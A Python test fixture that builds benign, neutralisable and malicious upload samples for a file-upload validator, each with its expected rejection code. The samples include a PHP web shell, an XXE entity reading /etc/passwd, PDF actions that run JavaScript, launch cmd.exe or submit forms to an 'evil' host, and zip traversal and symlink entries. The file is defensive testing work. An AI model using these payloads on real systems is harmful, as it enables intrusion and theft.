"""Benign, neutralisable and malicious upload samples, each with the verdict it must get."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from sifa.applications.uploads import errors


@dataclass(frozen=True)
class Sample:
    id: str
    filename: str
    build: Callable[[], bytes]
    expect: str | None
    """The rejection code, or None when the sample must be stored."""
    payload: bytes | None = None
    """For neutralised samples: bytes that must not survive into the stored file."""
    max_bytes: int | None = None


# --- PDF building blocks ---------------------------------------------------------------------


def pdf_stream(data: bytes, extra: bytes = b"", *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CONTENT = pdf_stream(b"BT /F1 12 Tf 72 720 Td (Hello \\(world\\) obj) Tj ET", flate=True)


def make_pdf(
    objects: list[bytes] | None = None,
    *,
    catalog: bytes = CATALOG,
    trailer: bytes = b"",
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
) -> bytes:
    """A well-formed PDF: objects 1–4 are catalog, pages, page, content; ``objects`` follow."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate([catalog, PAGES, PAGE, CONTENT, *(objects or [])], 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(offsets) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def incremental(base: bytes, objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """Append an incremental update (ISO 32000-1 §7.5.6) redefining or adding ``objects``."""
    out = bytearray(base)
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n"
    for number, offset in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size 20 /Root 1 0 R /Prev 0 %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        trailer,
        xref,
    )
    return bytes(out)


def object_stream(objects: list[bytes], extra: bytes = b" /Type /ObjStm", **kwargs) -> bytes:
    header, body = b"", b""
    for index, obj in enumerate(objects):
        header += b"%d %d " % (10 + index, len(body))
        body += obj + b"\n"
    extra += b" /N %d /First %d" % (len(objects), len(header))
    return pdf_stream(header + body, extra, **kwargs)


def catalog_with(entry: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + entry + b" >>"


def active_pdf(entry: bytes) -> Callable[[], bytes]:
    return lambda: make_pdf(catalog=catalog_with(entry))


def noise(size: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


# --- images ----------------------------------------------------------------------------------


def image_bytes(fmt: str, mode: str = "RGB", size: tuple[int, int] = (96, 64), **save) -> bytes:
    rnd = random.Random(3)
    image = Image.frombytes(mode, size, rnd.randbytes(size[0] * size[1] * len(mode)))
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0)}  # GPSInfo
    return image_bytes("JPEG", exif=exif.tobytes(), quality=80)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


# --- ZIP / OFD -------------------------------------------------------------------------------

OFD_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" '
    b'Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>a1</ofd:DocID>'
    b"</ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
)
DOCUMENT_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016">'
    b'<ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>'
)


def make_zip(members: dict[str, bytes], *, ofd: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if ofd:
            archive.writestr("OFD.xml", OFD_XML)
            archive.writestr("Doc_0/Document.xml", DOCUMENT_XML)
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zip_with_symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("OFD.xml", OFD_XML)
        link = zipfile.ZipInfo("Doc_0/link")
        link.external_attr = (0o120777 << 16) | 0
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def many_members() -> bytes:
    return make_zip({f"Res/{index}.xml": b"<a/>" for index in range(2100)})


# --- the corpus ------------------------------------------------------------------------------

PDF = errors.PDF_ACTIVE_CONTENT
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JS_ACTION = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
PHP = b"<?php system($_GET['c']); ?>"

SAMPLES: list[Sample] = [
    # benign: stored
    Sample("pdf-minimal", "申请书.pdf", make_pdf, None),
    Sample("pdf-open-view", "view.pdf", active_pdf(b"/OpenAction [3 0 R /Fit]"), None),
    Sample("pdf-open-view-comment", "view.pdf", active_pdf(b"/OpenAction %why\n [3 0 R /XYZ 0 842 0]"), None),
    Sample(
        "pdf-objstm-open-view",
        "view.pdf",
        lambda: make_pdf([object_stream([catalog_with(b"/OpenAction\n[3 0 R /Fit]")], flate=True)]),
        None,
    ),
    Sample("pdf-uri-link", "link.pdf", active_pdf(b"/X << /S /URI /URI (https://www.moj.gov.cn) >>"), None),
    Sample(
        "pdf-binary-image",
        "scan.pdf",
        lambda: make_pdf([pdf_stream(noise(300_000), b" /Subtype /Image /Filter /DCTDecode /Width 10")]),
        None,
    ),
    Sample(
        "pdf-benign-objstm",
        "objstm.pdf",
        lambda: make_pdf([object_stream([b"<< /Title (ok) >>", b"[1 2 3]"], flate=True)]),
        None,
    ),
    Sample(
        "pdf-benign-update",
        "updated.pdf",
        lambda: incremental(make_pdf(), {5: b"<< /Producer (Sifa) >>"}),
        None,
    ),
    Sample("png", "照片.png", lambda: image_bytes("PNG"), None),
    Sample("png-rgba", "logo.PNG", lambda: image_bytes("PNG", "RGBA"), None),
    Sample("jpeg", "身份证.jpg", lambda: image_bytes("JPEG"), None),
    Sample("jpeg-exif-gps", "gps.jpeg", jpeg_with_exif, None, payload=b"SecretCam"),
    Sample("ofd", "营业执照.ofd", lambda: make_zip({}), None),
    # neutralised: stored only re-encoded, payload gone
    Sample("jpeg+php", "a.jpg", lambda: image_bytes("JPEG") + PHP, None, payload=PHP),
    Sample(
        "png+zip",
        "b.png",
        lambda: image_bytes("PNG") + make_zip({"x.txt": b"zip-payload"}, ofd=False),
        None,
        payload=b"PK\x03\x04",
    ),
    Sample(
        "jpeg+pdf",
        "c.jpg",
        lambda: image_bytes("JPEG", size=(200, 200)) + make_pdf(),
        None,
        payload=b"%PDF-",
    ),
    Sample(
        "png+html",
        "d.png",
        lambda: image_bytes("PNG") + b"<html><script>alert(1)</script></html>",
        None,
        payload=b"<script>",
    ),
    # disguised types
    Sample("eicar-as-pdf", "eicar.pdf", lambda: EICAR, errors.MALWARE),
    Sample(
        "eicar-in-pdf",
        "e.pdf",
        lambda: make_pdf([pdf_stream(EICAR)]),
        errors.MALWARE,
    ),
    Sample(
        "svg-as-pdf",
        "x.pdf",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        errors.TYPE_NOT_ALLOWED,
    ),
    Sample("html-as-jpg", "x.jpg", lambda: b"<html><body>hi</body></html>", errors.TYPE_NOT_ALLOWED),
    Sample("php-as-pdf", "x.pdf", lambda: PHP, errors.TYPE_NOT_ALLOWED),
    Sample("elf-as-pdf", "x.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), errors.TYPE_NOT_ALLOWED),
    Sample("mz-as-jpg", "x.jpg", lambda: b"MZ\x90\x00" + bytes(200), errors.TYPE_NOT_ALLOWED),
    Sample("gif", "x.png", lambda: image_bytes("GIF", "L"), errors.TYPE_NOT_ALLOWED),
    Sample(
        "docm-as-pdf",
        "x.pdf",
        lambda: make_zip({"word/vbaProject.bin": b"macro"}, ofd=False),
        errors.EXTENSION_MISMATCH,
    ),
    Sample(
        "jar-as-ofd",
        "x.ofd",
        lambda: make_zip({"META-INF/MANIFEST.MF": b"Main-Class: X"}, ofd=False),
        errors.TYPE_NOT_ALLOWED,
    ),
    Sample("png-named-jpg", "x.jpg", lambda: image_bytes("PNG"), errors.EXTENSION_MISMATCH),
    Sample("empty", "x.pdf", lambda: b"", errors.EMPTY),
    # polyglots and PDF structure
    Sample("gif+pdf", "x.pdf", lambda: b"GIF89a\x01\x00\x01\x00" + make_pdf(), errors.POLYGLOT),
    Sample("bom+pdf", "x.pdf", lambda: b"\xef\xbb\xbf" + make_pdf(), errors.POLYGLOT),
    Sample(
        "pdf+zip",
        "x.pdf",
        lambda: make_pdf() + make_zip({"a.class": b"\xca\xfe"}, ofd=False),
        errors.POLYGLOT,
    ),
    Sample(
        "pdf-zip-in-last-stream",
        "x.pdf",
        lambda: make_pdf([pdf_stream(make_zip({"a": b"b"}, ofd=False))]),
        errors.POLYGLOT,
    ),
    Sample("pdf+html", "x.pdf", lambda: make_pdf() + b"<html>hi</html>", errors.POLYGLOT),
    Sample("pdf-no-eof", "x.pdf", lambda: make_pdf()[:-6], errors.CORRUPT),
    Sample(
        "pdf-lying-length",
        "x.pdf",
        lambda: make_pdf([b"<< /Length 3 >>\nstream\nabcdef\nendstream"]),
        errors.CORRUPT,
    ),
    Sample(
        "pdf-encrypted",
        "x.pdf",
        lambda: make_pdf(
            [b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"], trailer=b"/Encrypt 5 0 R "
        ),
        errors.ENCRYPTED_PDF,
    ),
    # active content, one per key
    *(
        Sample(f"pdf-{key}", f"{key}.pdf", active_pdf(entry), PDF)
        for key, entry in {
            "javascript": JS_ACTION,
            "js-only": b"/OpenAction << /JS (app.alert(1)) >>",
            "launch": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
            "embeddedfiles": b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            "embeddedfile": b"/X << /Type /EmbeddedFile >>",
            "richmedia": b"/X << /Subtype /RichMedia >>",
            "xfa": b"/AcroForm << /XFA 5 0 R >>",
            "aa": b"/AA << /O 5 0 R >>",
            "submitform": b"/OpenAction << /S /SubmitForm /F (https://evil) >>",
            "importdata": b"/OpenAction << /S /ImportData /F (x.fdf) >>",
            "gotor": b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>",
            "gotoe": b"/OpenAction << /S /GoToE /T << /N (a) >> >>",
            "hex-javascript": b"/OpenAction << /S /J#61vaScript /J#53 (x) >>",
            "hex-all-escaped-js": b"/OpenAction << /#4A#53 (app.alert(1)) >>",
            "hex-launch": b"/OpenAction << /S /Launc#68 /F (calc) >>",
            "hex-embeddedfiles": b"/Names << /Embedded#46iles 5 0 R >>",
            "fileattachment": b"/X << /Subtype /FileAttachment >>",
            "js-in-string-trick": b"/X (obj) /OpenAction << /S /JavaScript >>",
            # issue 14: an /OpenAction that is an action of any kind, not only the dangerous ones
            "open-uri": b"/OpenAction << /S /URI /URI (https://evil.example/) >>",
            "open-uri-hex-name": b"/Open#41ction<</S/URI/URI(https://evil.example/)>>",
            "open-named-print": b"/OpenAction << /S /Named /N /Print >>",
            "open-goto-action": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
            "open-indirect": b"/OpenAction 5 0 R",
            "open-after-comment": b"/OpenAction % a destination? no\n<< /S /URI /URI (x) >>",
            "aa-page-uri": b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>",
        }.items()
    ),
    Sample(
        "pdf-objstm-js",
        "x.pdf",
        lambda: make_pdf([object_stream([b"<< /S /JavaScript /JS (app.alert(1)) >>"], flate=True)]),
        PDF,
    ),
    *(
        Sample(
            f"pdf-objstm-{key}",
            "x.pdf",
            lambda entry=entry: make_pdf([object_stream([entry], flate=True)]),
            PDF,
        )
        for key, entry in {
            "open-uri": catalog_with(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
            "open-uri-tight": catalog_with(b"/OpenAction<</S/URI/URI(https://evil.example/)>>"),
            "open-indirect": catalog_with(b"/Open#41ction 12 0 R"),
        }.items()
    ),
    Sample(
        "pdf-objstm-hex-js",
        "x.pdf",
        lambda: make_pdf([object_stream([b"<< /#4A#53 (app.alert(1)) >>"], flate=True)]),
        PDF,
    ),
    Sample(
        "pdf-objstm-disguised-as-image",
        "x.pdf",
        lambda: make_pdf([object_stream([b"<< /AA << /O 9 0 R >> >>"], b" /Subtype /Image", flate=True)]),
        PDF,
    ),
    Sample(
        "pdf-objstm-asciihex",
        "x.pdf",
        lambda: make_pdf(
            [object_stream([b"<< /S /JavaScript >>"]).replace(b"/ObjStm", b"/ObjStm /Filter /AHx")]
        ),
        errors.PDF_UNINSPECTABLE,
    ),
    Sample(
        "pdf-objstm-predictor",
        "x.pdf",
        lambda: make_pdf(
            [object_stream([b"<< >>"], b" /Type /ObjStm /DecodeParms << /Predictor 12 >>", flate=True)]
        ),
        errors.PDF_UNINSPECTABLE,
    ),
    Sample(
        "pdf-objstm-bomb",
        "x.pdf",
        lambda: make_pdf([object_stream([b"<< >>" + b" " * 80_000_000], flate=True)]),
        errors.COMPRESSION_BOMB,
    ),
    Sample(
        "pdf-incremental-js",
        "x.pdf",
        lambda: incremental(make_pdf(), {1: catalog_with(JS_ACTION)}),
        PDF,
    ),
    Sample(
        "pdf-incremental-objstm-launch",
        "x.pdf",
        lambda: incremental(make_pdf(), {6: object_stream([b"<< /S /Launch /F (x) >>"], flate=True)}),
        PDF,
    ),
    # OFD / ZIP
    Sample(
        "ofd-zip-bomb",
        "x.ofd",
        lambda: make_zip({"Doc_0/big.xml": bytes(50 * 1024 * 1024)}),
        errors.COMPRESSION_BOMB,
    ),
    Sample("ofd-many-members", "x.ofd", many_members, errors.COMPRESSION_BOMB),
    Sample("ofd-traversal", "x.ofd", lambda: make_zip({"../../evil.sh": b"x"}), errors.OFD_UNSAFE),
    Sample("ofd-absolute", "x.ofd", lambda: make_zip({"/etc/cron.d/x": b"x"}), errors.OFD_UNSAFE),
    Sample("ofd-exe-member", "x.ofd", lambda: make_zip({"Res/a.png": b"MZ\x90"}), errors.OFD_UNSAFE),
    Sample(
        "ofd-xxe",
        "x.ofd",
        lambda: make_zip(
            {
                "Doc_0/Pages/Page_0/Content.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
            }
        ),
        errors.OFD_UNSAFE,
    ),
    Sample(
        "ofd-attachment",
        "x.ofd",
        lambda: make_zip({"Doc_0/Attachs/Attachments.xml": b"<a/>"}),
        errors.OFD_UNSAFE,
    ),
    Sample("ofd-symlink", "x.ofd", zip_with_symlink, errors.OFD_UNSAFE),
    Sample("ofd+trailing", "x.ofd", lambda: make_zip({}) + PHP, errors.POLYGLOT),
    # names
    *(
        Sample(f"name-{label}", name, make_pdf, errors.BAD_NAME)
        for label, name in {
            "rtlo": "invoice\u202efdp.exe",
            "nul": "a.pdf\x00.exe",
            "traversal": "../../etc/passwd.pdf",
            "backslash-traversal": "..\\..\\win.ini.pdf",
            "absolute": "/etc/x.pdf",
            "drive": "C:x.pdf",
            "device": "CON.pdf",
            "overlong": "长" * 201 + ".pdf",
            "empty": "",
            "dots": "..",
        }.items()
    ),
    Sample("double-ext-exe", "a.pdf.exe", make_pdf, errors.EXTENSION_MISMATCH),
    Sample("double-ext-php", "a.jpg.php", lambda: image_bytes("JPEG"), errors.EXTENSION_MISMATCH),
    Sample("inner-php", "a.php.jpg", lambda: image_bytes("JPEG"), errors.EXTENSION_MISMATCH),
    Sample("no-extension", "scan", make_pdf, errors.EXTENSION_MISMATCH),
    # size and pixels
    Sample(
        "oversize",
        "big.pdf",
        lambda: make_pdf([pdf_stream(noise(200_000))]),
        errors.TOO_LARGE,
        max_bytes=100_000,
    ),
    Sample("png-100000-square", "x.png", lambda: png_header_only(100_000, 100_000), errors.IMAGE_TOO_LARGE),
    Sample("png-100-mpx", "x.png", lambda: png_header_only(10_000, 10_000), errors.IMAGE_TOO_LARGE),
    Sample("png-truncated", "x.png", lambda: image_bytes("PNG", size=(300, 300))[:5000], errors.CORRUPT),
    Sample("jpeg-truncated", "x.jpg", lambda: image_bytes("JPEG", size=(300, 300))[:3000], errors.CORRUPT),
]
